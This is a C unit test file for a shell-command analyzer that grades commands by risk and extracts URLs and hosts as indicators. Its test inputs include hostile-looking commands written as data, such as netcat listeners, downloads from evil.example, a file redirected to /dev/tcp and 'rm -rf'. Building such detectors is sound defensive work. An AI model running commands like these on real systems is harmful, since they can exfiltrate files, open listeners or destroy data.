/*
 * test_commands.c - the command table (ss_command_table.c) and user rows.
 *
 * Built-in aliases and kinds; user rows that add a tool with options that
 * take a value (IOC extraction changes), aliases, kinds (shell, prefix,
 * interpreter, echo, eval), IOC roles; a grade without a kind winning
 * over the kind's rules; row checks and the names of kinds and roles.
 */
#include "ss.h"
#include "unit.h"

static ss_arena_t arena;

typedef struct {
    ss_grade_t grade;
    char text[1024]; /* commands, URLs and hosts: "C:wget U:http://x H:x " */
} seen_t;

static seen_t run(const ss_rules_t *r, const char *text)
{
    ss_payload_t p;
    seen_t s;
    memset(&p, 0, sizeof(p));
    memset(&s, 0, sizeof(s));
    ss_analyze_commands(r, text, strlen(text), &p, &arena);
    s.grade = p.grade;
    size_t n = 0;
    for (size_t i = 0; i < p.n_commands; i++)
        n += (size_t)snprintf(s.text + n, sizeof(s.text) - n, "C:%s ", p.commands[i]);
    for (size_t i = 0; i < p.n_urls; i++)
        n += (size_t)snprintf(s.text + n, sizeof(s.text) - n, "U:%s ", p.urls[i]);
    for (size_t i = 0; i < p.n_hosts; i++)
        n += (size_t)snprintf(s.text + n, sizeof(s.text) - n, "H:%s ", p.hosts[i]);
    ss_arena_reset(&arena);
    return s;
}

static void expect(const ss_rules_t *r, const char *text, ss_grade_t grade, const char *want)
{
    seen_t s = run(r, text);
    if (s.grade != grade || strcmp(s.text, want) != 0)
        fprintf(stderr, "\n  input: %s\n    got %s [%s]\n   want %s [%s]", text,
                ss_grade_name(s.grade), s.text, ss_grade_name(grade), want);
    CU_ASSERT_EQUAL(s.grade, grade);
    CU_ASSERT_STRING_EQUAL(s.text, want);
}

static bool add(ss_rules_t *r, const char *name, const char *aliases, ss_grade_t grade,
                const char *kind, const char *opts, const char *ioc)
{
    ss_command_row_t row = {name, aliases, grade, kind, opts, ioc};
    const char *err = NULL;
    bool ok = ss_rules_add_command(r, &row, &err);
    if (!ok)
        fprintf(stderr, "\n  row %s: %s", name, err ? err : "?");
    return ok;
}

static void test_builtin_aliases(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    /* nc's aliases share its grade, options and IOC role */
    expect(r, "ncat -w 3 h.example 80", SS_GRADE_RED, "C:ncat H:h.example ");
    expect(r, "netcat -l -p 4444", SS_GRADE_RED, "C:netcat ");
    expect(r, "ping6 -c 1 h.example", SS_GRADE_YELLOW, "C:ping6 H:h.example ");
    /* bash and ash are shells like sh */
    expect(r, "ash -c 'id'", SS_GRADE_GREEN, "C:id ");
    expect(r, "[ -f x ]", SS_GRADE_GREEN, "C:[ ");
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "egrep"), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(ss_rules_lookup(NULL, "ncat"), SS_GRADE_RED);
    /* a user row for one name leaves its aliases alone */
    CU_ASSERT_TRUE(ss_rules_set_user(r, "nc", SS_GRADE_GREEN));
    expect(r, "nc h.example 1", SS_GRADE_GREEN, "C:nc H:h.example ");
    expect(r, "ncat h.example 1", SS_GRADE_RED, "C:ncat H:h.example ");
    ss_rules_free(r);
}

static void test_user_tool_options(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    /* Unknown: no IOC from its arguments. */
    expect(r, "fetchx -o out.bin evil.example/x", SS_GRADE_YELLOW, "C:fetchx ");
    /* A downloader without its options: -o's value looks like a host. */
    CU_ASSERT_TRUE(add(r, "fetchx", NULL, SS_GRADE_RED, NULL, NULL, "url"));
    expect(r, "fetchx -o out.bin evil.example/x", SS_GRADE_RED,
           "C:fetchx U:http://out.bin U:http://evil.example/x H:out.bin H:evil.example ");
    /* With -o taking a value, only the operand is a URL. */
    CU_ASSERT_TRUE(add(r, "fetchx", NULL, SS_GRADE_RED, NULL, "-o --out", "url"));
    expect(r, "fetchx -o out.bin evil.example/x", SS_GRADE_RED,
           "C:fetchx U:http://evil.example/x H:evil.example ");
    expect(r, "fetchx --out out.bin evil.example/x", SS_GRADE_RED,
           "C:fetchx U:http://evil.example/x H:evil.example ");
    expect(r, "fetchx -oout.bin evil.example/x", SS_GRADE_RED,
           "C:fetchx U:http://evil.example/x H:evil.example ");

    /* A built-in tool's option list replaced: wget -T 5.5 (a timeout). */
    expect(r, "wget -T 5.5 a.example/x", SS_GRADE_RED,
           "C:wget U:http://5.5 U:http://a.example/x H:5.5 H:a.example ");
    CU_ASSERT_TRUE(add(r, "wget", NULL, SS_GRADE_NONE, NULL, "-OoPUeT --header", NULL));
    expect(r, "wget -T 5.5 a.example/x", SS_GRADE_RED, "C:wget U:http://a.example/x H:a.example ");

    /* Other roles for new tools. */
    CU_ASSERT_TRUE(add(r, "myping", NULL, SS_GRADE_NONE, NULL, "-c", "host"));
    expect(r, "myping -c 3 t.example", SS_GRADE_YELLOW, "C:myping H:t.example ");
    CU_ASSERT_TRUE(add(r, "mync", NULL, SS_GRADE_RED, "plain", "-p", "connect"));
    expect(r, "mync -p 1 c.example 9", SS_GRADE_RED, "C:mync H:c.example ");
    expect(r, "mync -l -p 9", SS_GRADE_RED, "C:mync ");
    /* Role none takes a built-in role away. */
    CU_ASSERT_TRUE(add(r, "dig", NULL, SS_GRADE_NONE, NULL, NULL, "none"));
    expect(r, "dig d.example", SS_GRADE_YELLOW, "C:dig ");

    /* Cleared: back to the built-in rows. */
    ss_rules_clear_user(r);
    expect(r, "fetchx -o out.bin evil.example/x", SS_GRADE_YELLOW, "C:fetchx ");
    expect(r, "dig d.example", SS_GRADE_YELLOW, "C:dig H:d.example ");
    ss_rules_free(r);
}

static void test_user_aliases(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    CU_ASSERT_TRUE(add(r, "fetchx", "fx, fetchy", SS_GRADE_RED, NULL, "-o", "url"));
    expect(r, "fx -o a.out b.example/1", SS_GRADE_RED, "C:fx U:http://b.example/1 H:b.example ");
    expect(r, "/usr/bin/fetchy b.example", SS_GRADE_RED, "C:fetchy U:http://b.example H:b.example ");
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "fx"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "fetchy"), SS_GRADE_RED);
    /* An alias of a built-in name takes that name's row: wget2 is wget. */
    CU_ASSERT_TRUE(add(r, "wget", "wget2", SS_GRADE_NONE, NULL, NULL, NULL));
    expect(r, "wget2 -O x.bin c.example/y", SS_GRADE_RED,
           "C:wget2 U:http://c.example/y H:c.example ");
    ss_rules_free(r);
}

static void test_user_kinds(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    /* A shell: -c is unwrapped, -i and scripts are red, piping into it too. */
    CU_ASSERT_TRUE(add(r, "zsh", NULL, SS_GRADE_NONE, "shell", "-o", NULL));
    expect(r, "zsh", SS_GRADE_YELLOW, "C:zsh ");
    expect(r, "zsh -c 'wget a.example/x'", SS_GRADE_RED, "C:wget U:http://a.example/x H:a.example ");
    expect(r, "zsh -i", SS_GRADE_RED, "C:zsh ");
    expect(r, "zsh -o x", SS_GRADE_YELLOW, "C:zsh "); /* -o takes a value: no script */
    expect(r, "zsh run.sh", SS_GRADE_RED, "C:zsh ");
    expect(r, "echo id | zsh", SS_GRADE_RED, "C:echo C:zsh ");
    /* A prefix: what it runs is the command. */
    expect(r, "doas -u root wget a.example", SS_GRADE_YELLOW, "C:doas ");
    CU_ASSERT_TRUE(add(r, "doas", NULL, SS_GRADE_NONE, "prefix", "-u", NULL));
    expect(r, "doas -u root wget a.example", SS_GRADE_RED,
           "C:wget U:http://a.example H:a.example ");
    expect(r, "doas", SS_GRADE_YELLOW, "C:doas ");
    /* An interpreter: its grade is the base, code raises it. */
    CU_ASSERT_TRUE(add(r, "deno", NULL, SS_GRADE_GREEN, "interpreter", NULL, NULL));
    expect(r, "deno", SS_GRADE_GREEN, "C:deno ");
    expect(r, "deno -e 'x'", SS_GRADE_RED, "C:deno ");
    /* echo's kind: output into /dev/tcp is a callback, not an upload. */
    CU_ASSERT_TRUE(add(r, "say", NULL, SS_GRADE_GREEN, "echo", NULL, NULL));
    expect(r, "say hi > /dev/tcp/h.example/1", SS_GRADE_YELLOW, "C:say H:h.example ");
    expect(r, "cat x > /dev/tcp/h.example/1", SS_GRADE_RED, "C:cat H:h.example ");
    /* eval's kind: its arguments are commands. */
    CU_ASSERT_TRUE(add(r, "run", NULL, SS_GRADE_NONE, "eval", NULL, NULL));
    expect(r, "run 'id; rm -rf x'", SS_GRADE_RED, "C:id C:rm ");
    /* A kind taken away: bash as a plain command is no longer unwrapped. */
    CU_ASSERT_TRUE(add(r, "bash", NULL, SS_GRADE_NONE, "plain", NULL, NULL));
    expect(r, "bash -c 'rm x'", SS_GRADE_YELLOW, "C:bash ");
    expect(r, "sh -c 'rm x'", SS_GRADE_RED, "C:rm ");
    ss_rules_free(r);
}

static void test_grade_and_kind(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    /* A grade alone wins over the kind's rules (the grade table's rows)... */
    CU_ASSERT_TRUE(add(r, "sh", NULL, SS_GRADE_GREEN, NULL, NULL, NULL));
    expect(r, "sh -i", SS_GRADE_GREEN, "C:sh ");
    expect(r, "sh -c 'id'", SS_GRADE_GREEN, "C:id "); /* still unwrapped */
    /* ...with a kind, it is the base grade the rules raise. */
    CU_ASSERT_TRUE(add(r, "sh", NULL, SS_GRADE_GREEN, "shell", NULL, NULL));
    expect(r, "sh", SS_GRADE_GREEN, "C:sh ");
    expect(r, "sh -i", SS_GRADE_RED, "C:sh ");
    /* Only built-in rows match a version suffix. */
    CU_ASSERT_TRUE(add(r, "python", NULL, SS_GRADE_GREEN, NULL, NULL, NULL));
    expect(r, "python -c x", SS_GRADE_GREEN, "C:python ");
    expect(r, "python3 -c x", SS_GRADE_RED, "C:python3 ");
    ss_rules_free(r);
}

static void test_row_checks(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    const char *err = NULL;
    ss_command_row_t bad_kind = {"x", NULL, SS_GRADE_RED, "daemon", NULL, NULL};
    CU_ASSERT_FALSE(ss_rules_add_command(r, &bad_kind, &err));
    CU_ASSERT_PTR_NOT_NULL(err);
    ss_command_row_t bad_ioc = {"x", NULL, SS_GRADE_RED, NULL, NULL, "email"};
    CU_ASSERT_FALSE(ss_command_row_check(&bad_ioc, NULL));
    ss_command_row_t bad_opts = {"x", NULL, SS_GRADE_RED, NULL, "o", NULL};
    CU_ASSERT_FALSE(ss_command_row_check(&bad_opts, NULL));
    ss_command_row_t bad_opts2 = {"x", NULL, SS_GRADE_RED, NULL, "-o --", NULL};
    CU_ASSERT_FALSE(ss_command_row_check(&bad_opts2, NULL));
    ss_command_row_t bad_grade = {"x", NULL, (ss_grade_t)7, NULL, NULL, NULL};
    CU_ASSERT_FALSE(ss_command_row_check(&bad_grade, NULL));
    ss_command_row_t no_name = {"", NULL, SS_GRADE_RED, NULL, NULL, NULL};
    CU_ASSERT_FALSE(ss_command_row_check(&no_name, NULL));
    CU_ASSERT_FALSE(ss_rules_add_command(NULL, &bad_kind, NULL));
    ss_command_row_t ok = {"x", "y z", SS_GRADE_NONE, "PREFIX", "-a, --bb", "Host"};
    CU_ASSERT_TRUE(ss_command_row_check(&ok, NULL));
    /* A failed row changed nothing. */
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "x"), SS_GRADE_YELLOW);
    ss_rules_free(r);
}

static void test_names(void)
{
    for (int k = 0; k < SS_KIND_COUNT; k++) {
        ss_kind_t back;
        CU_ASSERT_TRUE(ss_kind_parse(ss_kind_name((ss_kind_t)k), &back));
        CU_ASSERT_EQUAL(back, (ss_kind_t)k);
    }
    for (int k = 0; k < SS_IOC_COUNT; k++) {
        ss_ioc_role_t back;
        CU_ASSERT_TRUE(ss_ioc_role_parse(ss_ioc_role_name((ss_ioc_role_t)k), &back));
        CU_ASSERT_EQUAL(back, (ss_ioc_role_t)k);
    }
    CU_ASSERT_STRING_EQUAL(ss_kind_name(SS_KIND_INTERPRETER), "interpreter");
    CU_ASSERT_STRING_EQUAL(ss_ioc_role_name(SS_IOC_URL), "url");
    CU_ASSERT_STRING_EQUAL(ss_kind_name(SS_KIND_COUNT), "unknown");
    ss_kind_t k;
    CU_ASSERT_FALSE(ss_kind_parse("", &k));
    CU_ASSERT_FALSE(ss_kind_parse(NULL, &k));
}

static void test_many_rows(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    char name[32], alias[32];
    for (int i = 0; i < 1500; i++) {
        snprintf(name, sizeof(name), "tool%d", i);
        snprintf(alias, sizeof(alias), "t%d", i);
        CU_ASSERT_TRUE(add(r, name, alias, (ss_grade_t)(1 + i % 3), "plain", "-o", "url"));
    }
    for (int i = 0; i < 1500; i += 89) {
        snprintf(alias, sizeof(alias), "t%d", i);
        CU_ASSERT_EQUAL(ss_rules_lookup(r, alias), (ss_grade_t)(1 + i % 3));
    }
    expect(r, "t7 -o x.y a.example", SS_GRADE_YELLOW, "C:t7 U:http://a.example H:a.example ");
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "wget"), SS_GRADE_RED);
    ss_rules_free(r);
}

static int suite_init(void)
{
    ss_arena_init(&arena);
    return 0;
}

static int suite_cleanup(void)
{
    ss_arena_free(&arena);
    return 0;
}

static CU_TestInfo tests[] = {
    {"built-in aliases", test_builtin_aliases},
    {"a user tool with options that take a value", test_user_tool_options},
    {"user aliases", test_user_aliases},
    {"user kinds", test_user_kinds},
    {"a grade with and without a kind", test_grade_and_kind},
    {"row checks", test_row_checks},
    {"kind and IOC role names", test_names},
    {"many user rows", test_many_rows},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN_FIXTURE("commands", suite_init, suite_cleanup, tests)
